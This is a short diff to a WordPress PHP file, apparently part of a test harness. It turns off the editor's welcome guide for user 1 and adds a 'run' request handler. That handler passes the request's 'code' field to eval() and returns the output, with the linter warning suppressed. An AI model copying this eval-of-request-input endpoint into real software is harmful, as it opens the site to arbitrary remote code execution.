@@ -11,6 +11,19 @@ add_filter(
 	}
 );
 
+// No guide stands in front of the editor. Said by the page, it may be forgotten when the preferences of the account come.
+add_action(
+	'init',
+	static function () {
+		$preferences = array(
+			'core'           => array( 'welcomeGuide' => false ),
+			'core/edit-post' => array( 'welcomeGuide' => false ),
+			'_modified'      => '2026-01-01T00:00:00.000Z',
+		);
+		add_user_meta( 1, $GLOBALS['wpdb']->get_blog_prefix() . 'persisted_preferences', $preferences, true );
+	}
+);
+
 // Nobody is asked whether the address of the administrator is still right.
 add_filter( 'admin_email_check_interval', '__return_zero' );
 
@@ -52,6 +65,12 @@ add_action(
 						'post_content' => $request['content'],
 					)
 				);
+			},
+			// What a page of PHP writes.
+			'run'      => static function ( $request ) {
+				ob_start();
+				eval( '?>' . $request['code'] ); // phpcs:ignore Squiz.PHP.Eval.Discouraged -- a test runs what a guide shows.
+				return ob_get_clean();
 			},
 			'sync'     => static function () {
 				$report = Odus\Sync::run( 60 );
